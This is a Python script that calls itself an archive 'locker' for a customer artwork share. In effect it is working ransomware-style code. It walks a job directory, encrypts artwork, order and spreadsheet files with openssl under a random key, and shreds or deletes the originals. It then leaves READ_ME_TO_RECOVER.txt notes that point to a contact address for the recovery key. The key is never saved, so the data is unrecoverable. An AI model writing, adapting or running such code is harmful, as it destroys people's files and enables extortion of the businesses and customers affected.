#!/usr/bin/env python3
"""Job archive "locker" for the customer artwork share.

Walks the shared job archive, encrypts every artwork and order file with a
one-off key, removes the originals and leaves a note in each folder.
The encryption itself is done by openssl in a generated shell script.
"""
import argparse
import logging
import os
import secrets
import subprocess
import sys
import tempfile
from pathlib import Path

LOG = logging.getLogger("archive_lock")

TARGET_EXT = {".pdf", ".ai", ".psd", ".indd", ".tif", ".tiff", ".eps",
              ".jpg", ".png", ".xlsx", ".csv", ".docx", ".json"}
NOTE_NAME = "READ_ME_TO_RECOVER.txt"
NOTE_TEXT = """All job files in this folder have been encrypted.
To obtain the recovery key contact recovery@example.net with the ID below.
ID: {ident}
"""


class ArchiveWalker:
    def __init__(self, root: Path, max_files: int):
        self.root = root
        self.max_files = max_files

    def targets(self):
        count = 0
        for dirpath, dirnames, filenames in os.walk(self.root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in TARGET_EXT and not name.endswith(".locked"):
                    yield p
                    count += 1
                    if self.max_files and count >= self.max_files:
                        return


def build_script(files, script_path: Path):
    lines = ["#!/bin/bash", "set -u"]
    for f in files:
        q = str(f).replace("'", "'\\''")
        lines.append(
            f"openssl enc -aes-256-cbc -pbkdf2 -salt -pass env:LOCK_KEY "
            f"-in '{q}' -out '{q}.locked' && shred -u '{q}' || rm -f '{q}'"
        )
    script_path.write_text("\n".join(lines) + "\n")
    script_path.chmod(0o700)


def drop_notes(folders, ident: str):
    for folder in folders:
        try:
            (folder / NOTE_NAME).write_text(NOTE_TEXT.format(ident=ident))
        except OSError as exc:
            LOG.debug("no note in %s: %s", folder, exc)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("root", nargs="?", default="/srv/jobs",
                    help="job archive root (default /srv/jobs)")
    ap.add_argument("--max-files", type=int, default=0)
    ap.add_argument("--batch", type=int, default=200,
                    help="files per generated script")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    root = Path(args.root)
    if not root.is_dir():
        LOG.error("%s is not a directory", root)
        return 2

    files = list(ArchiveWalker(root, args.max_files).targets())
    if not files:
        LOG.info("nothing to lock")
        return 0
    LOG.info("%d file(s) selected under %s", len(files), root)

    key = secrets.token_urlsafe(32)
    ident = secrets.token_hex(8)
    env = dict(os.environ, LOCK_KEY=key)
    workdir = Path(tempfile.mkdtemp(prefix=".al_"))
    failures = 0
    for start in range(0, len(files), args.batch):
        chunk = files[start:start + args.batch]
        script = workdir / f"lock_{start:06d}.sh"
        build_script(chunk, script)
        res = subprocess.run(["bash", str(script)], env=env,
                             capture_output=True, text=True)
        if res.returncode != 0:
            failures += 1
            LOG.warning("batch %d reported: %s", start, res.stderr.strip()[:200])
        script.unlink()
    workdir.rmdir()

    drop_notes({f.parent for f in files}, ident)
    del key
    LOG.info("locked %d file(s), %d batch warning(s), id %s",
             len(files), failures, ident)
    return 0


if __name__ == "__main__":
    sys.exit(main())
